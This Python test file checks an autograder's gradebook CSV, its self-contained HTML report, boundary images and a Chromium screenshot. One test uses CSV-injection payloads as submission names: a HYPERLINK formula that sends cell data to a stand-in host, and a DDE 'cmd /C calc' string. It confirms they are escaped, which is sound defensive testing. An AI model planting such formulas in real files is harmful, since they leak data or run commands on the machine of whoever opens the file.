"""The gradebook CSV and the HTML page: their structure, and the page rendered by a real headless Chromium."""

import csv
import io
import os
import shutil
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest

from nnspec.grading.boundary import boundary, encode_png, moons_grid, png
from nnspec.grading.gradebook import write_csv
from nnspec.grading.html import render, write_html
import background
from samples import entry
from screenshot import decode_png

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def moons_boundary():
    X, meta = moons_grid(24)
    return boundary((X[1] < 0.25 - 0.5 * np.sin(X[0])).astype(int), meta)


def entries():
    return [entry("passed", name="alice.py"),
            {**entry("failed", {"backward_propagation": "failed"}, name="bob.py"), "boundary": moons_boundary()},
            entry("crashed", keep=4, name="carol.py", message="the implementation was killed by signal SIGSEGV"),
            entry("does not import", name="dave.py", message="SyntaxError: invalid syntax (dave.py, line 3)")]


class Page(HTMLParser):
    """What the page holds: tags with their attributes, and the text."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.text = [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def test_the_gradebook_has_one_row_per_submission_and_one_column_per_item(tmp_path):
    path = write_csv(entries(), tmp_path / "grades.csv")
    table = list(csv.reader(path.open()))
    assert table[0][:4] == ["file", "verdict", "score", "max_score"] and "backward_propagation" in table[0], table[0]
    assert [row[1] for row in table[1:]] == ["passed", "failed", "crashed", "does not import"], table
    assert table[1][2] == "100" and table[4][2] == "0", table
    bob = dict(zip(table[0], table[2]))
    assert bob["backward_propagation"] == "0" and float(bob["relu"]) > 0, bob


def test_a_gradebook_cell_a_submission_chose_is_never_a_spreadsheet_formula(tmp_path):
    # As `batch FILE...` names them: the path as given, here the bare file name.
    chosen = [{**entry("does not import", message="@SUM(1+1)*cmd|' /C calc'!A0 does not import"),
               "path": '=HYPERLINK("http://x.example/?"&A1,"see").py'},
              {**entry("failed", {"relu": "failed"}, message="+relu raised"), "path": "-2+3.py"},
              {**entry("passed", message="relu: ok = fine"), "path": "plain.py"}]
    table = list(csv.reader(write_csv(chosen, tmp_path / "grades.csv").open()))
    texts = [cell for row in table[1:] for cell in (row[0], row[-1])]
    assert texts == ['\'=HYPERLINK("http://x.example/?"&A1,"see").py', "'@SUM(1+1)*cmd|' /C calc'!A0 does not import",
                     "'-2+3.py", "'+relu raised", "plain.py", "relu: ok = fine"], texts


def test_the_page_is_self_contained_with_a_coloured_sortable_matrix():
    page = Page(render(entries()))
    rows = [a for t, a in page.tags if t == "tr"]
    cells = [a.get("class") for t, a in page.tags if t == "td"]
    assert len(rows) == 1 + 4, f"a header and 4 submissions, got {len(rows)} rows"
    assert {"ok", "bad", "unreached"} <= set(cells), set(cells)
    for tag, attributes in page.tags:
        for key in ("src", "href"):
            value = attributes.get(key, "")
            assert not value or value.startswith(("data:", "#")), f"<{tag} {key}={value[:60]}> reaches outside"
    assert any(t == "script" for t, _ in page.tags) and any(t == "svg" for t, _ in page.tags), "sorting, chart"


def test_the_page_shows_each_submissions_messages_hints_and_boundary():
    text = render(entries())
    assert "did you forget to divide by m?" in text and "SIGSEGV" in text and "SyntaxError" in text
    images = [a for t, a in Page(text).tags if t == "img"]
    assert len(images) == 1 and images[0]["src"].startswith("data:image/png;base64,"), images


def test_the_boundary_png_is_a_valid_image_of_both_regions():
    width, height, pixels = decode_png(png(moons_boundary(), scale=2, points=0))
    assert (width, height) == (48, 48), (width, height)
    colours = {tuple(p) for p in pixels.reshape(-1, 3)}
    assert {(187, 222, 251), (255, 224, 178)} <= colours, colours


def test_the_png_encoder_and_the_tests_decoder_agree():
    image = np.arange(5 * 7 * 3, dtype=np.uint8).reshape(5, 7, 3)
    width, height, pixels = decode_png(encode_png(image))
    assert (width, height) == (7, 5) and np.array_equal(pixels, image), pixels


def test_moons_grid_runs_from_the_bottom_row_up():
    X, meta = moons_grid(3)
    assert X.shape == (2, 9) and X[1, 0] == meta["y"][0] and X[1, -1] == meta["y"][1], X
    with pytest.raises(ValueError, match="resolution was 1, must be an int from 2 to 512"):
        moons_grid(1)


def _screenshot_of_the_page():
    """chromium's screenshot of the page, decoded in a python process of its own (screenshot.py): its colours."""
    if CHROMIUM is None:
        return None
    with tempfile.TemporaryDirectory() as folder:
        page = write_html(entries(), Path(folder) / "report.html")
        return background.json_of(Path(__file__).with_name("screenshot.py"), CHROMIUM, page,
                                  Path(folder) / "report.png")


# Chromium's start and the pure-Python PNG decoding take seconds: they run while the other tests do.
BACKGROUND = {"chromium_screenshot": _screenshot_of_the_page}
BACKGROUND_SECONDS = {"chromium_screenshot": 3.4}


def test_chromium_renders_the_page_with_its_table():
    if CHROMIUM is None:
        message = "chromium is not installed (.ci/run installs Debian's chromium)"
        pytest.fail(message) if os.environ.get("CI") else pytest.skip(message)
    shot = background.result("chromium_screenshot", _screenshot_of_the_page)
    assert shot["file"], f"no screenshot (exit {shot['returncode']}): {shot['stderr']}"
    assert shot["green"] > 1000 and shot["red"] > 1000, \
        f"the matrix's colours are missing: {shot['green']} green, {shot['red']} red pixels"


def test_a_batch_entry_carries_the_boundary_its_own_train_learned_on_moons(tmp_path):
    from nnspec.batch import Limits, run_batch

    shutil.copy(Path(__file__).resolve().parents[2] / "examples" / "epsilon_network.py", tmp_path)
    [entry] = run_batch([tmp_path], tmp_path / "report.json", Limits(sandbox="off"), workers=1, out=io.StringIO(),
                        select=["train_and_predict_learn_moons"], require="train")
    field = entry["boundary"]
    labels = np.array(field["labels"])
    assert labels.shape == (48, 48) and set(np.unique(labels)) == {0, 1}, labels.shape
    assert 0.2 < labels.mean() < 0.8, "both moons have their region"
